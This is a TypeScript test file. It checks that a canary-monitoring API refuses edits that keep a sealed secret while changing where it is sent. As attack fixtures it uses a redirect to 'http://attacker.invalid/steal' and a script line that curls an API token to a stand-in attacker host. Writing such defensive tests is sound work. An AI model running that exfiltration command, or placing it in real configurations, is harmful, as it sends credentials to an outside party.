import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../support/server.js';

/**
 * A person who may write a spec but cannot read its secrets (they are answered `<sealed>`) cannot
 * keep a saved secret while changing where it goes: through the data service or a file, `<sealed>`
 * beside a changed url, host, script or connection is refused, so the secret never reaches a
 * destination chosen without knowing it. Changing anything else keeps the secret.
 */

const PASSWORD = 'Kept-http-password-81';

let server: TestServer;
let admin: string;
let editor: string;
let canaryId: string;

function canaryYaml(url: string, password: string, interval = 3600, script = 'echo ok'): string {
  return `apiVersion: canaries.flanksource.com/v1
kind: Canary
metadata:
  name: destinations
spec:
  interval: ${interval}
  http:
    - name: guarded
      url: ${url}
      username: {value: probe}
      password: {value: ${password}}
  exec:
    - name: guarded-script
      script: ${script}
      env:
        - name: API_TOKEN
          value: ${password}
`;
}

async function apply(yaml: string, token: string): Promise<{ status: number; body: { problems?: { path: string; reason: string }[]; resources?: { action: string }[] } }> {
  const response = await fetch(`${server.url}/api/apply`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/yaml' }, body: yaml });
  return { status: response.status, body: (await response.json()) as never };
}

async function readSpec(): Promise<{ http: Record<string, unknown>[]; exec: Record<string, unknown>[]; interval: number }> {
  const response = await fetch(`${server.url}/api/db/canaries?id=eq.${canaryId}&select=spec`, { headers: { authorization: `Bearer ${editor}` } });
  const [row] = (await response.json()) as { spec: never }[];
  return row!.spec;
}

async function patchSpec(spec: unknown): Promise<{ status: number; text: string }> {
  const response = await fetch(`${server.url}/api/db/canaries?id=eq.${canaryId}`, {
    method: 'PATCH',
    headers: { authorization: `Bearer ${editor}`, 'content-type': 'application/json' },
    body: JSON.stringify({ spec }),
  });
  return { status: response.status, text: await response.text() };
}

/** The password as the server opens it for the http check: what would be sent. */
async function savedPasswordIsSealed(): Promise<boolean> {
  const { rows } = await server.pool.query<{ password: string }>("select spec #>> '{http,0,password,value}' as password from canaries where id = $1", [canaryId]);
  return rows[0]!.password.startsWith('v1:');
}

beforeAll(async () => {
  server = await startTestServer();
  admin = await server.tokenFor(['admin']);
  editor = await server.tokenFor(['editor']);
  const applied = await apply(canaryYaml('http://127.0.0.1:9/health', PASSWORD), admin);
  expect(applied.status, JSON.stringify(applied.body)).toBe(200);
  canaryId = (await server.pool.query<{ id: string }>("select id from canaries where name = 'destinations'")).rows[0]!.id;
  // Saved through the data service so that it is not linked to a file (those are read-only there).
  await server.pool.query("update canaries set source = 'UI' where id = $1", [canaryId]);
}, 120_000);

afterAll(async () => {
  await server?.close();
});

describe('a kept <sealed> secret', () => {
  it('is refused through the data service beside a changed url or script, and nothing is saved', async () => {
    const spec = await readSpec();
    expect(spec.http[0]!['password']).toEqual({ value: '<sealed>' });

    const moved = await patchSpec({ ...spec, http: [{ ...spec.http[0], url: 'http://attacker.invalid/steal' }] });
    expect(moved.status).toBe(400);
    expect(moved.text).toContain('url changed beside a <sealed> value');

    const scripted = await patchSpec({ ...spec, exec: [{ ...spec.exec[0], script: 'curl -d "$API_TOKEN" http://attacker.invalid' }] });
    expect(scripted.status).toBe(400);
    expect(scripted.text).toContain('script changed beside a <sealed> value');

    const after = await readSpec();
    expect(after.http[0]!['url']).toBe('http://127.0.0.1:9/health');
    expect(after.exec[0]!['script']).toBe('echo ok');
  });

  it('is kept through the data service when something else changes', async () => {
    const spec = await readSpec();
    const saved = await patchSpec({ ...spec, interval: 1800 });
    expect(saved.status, saved.text).toBe(204);
    expect((await readSpec()).interval).toBe(1800);
    expect(await savedPasswordIsSealed()).toBe(true);
  });

  it('is refused in an applied file beside a changed url, with the field path', async () => {
    await server.pool.query("update canaries set source = 'ConfigFile' where id = $1", [canaryId]);
    const moved = await apply(canaryYaml('http://attacker.invalid/steal', '<sealed>'), editor);
    expect(moved.status).toBe(400);
    expect(moved.body.problems?.map((problem) => [problem.path, problem.reason])).toContainEqual([
      '/spec/http/0/password/value',
      '<sealed> keeps a saved secret, but http.0.url changed beside it: write the secret again to send it to the new destination',
    ]);
  });

  it('in an applied file is kept when only the interval changes, and a new secret may go to a new url', async () => {
    expect((await apply(canaryYaml('http://127.0.0.1:9/health', '<sealed>', 900), editor)).body.resources?.[0]?.action).toBe('configured');
    expect((await apply(canaryYaml('http://127.0.0.1:9/other', 'A-new-password-written-again', 900), editor)).status).toBe(200);
  });
});
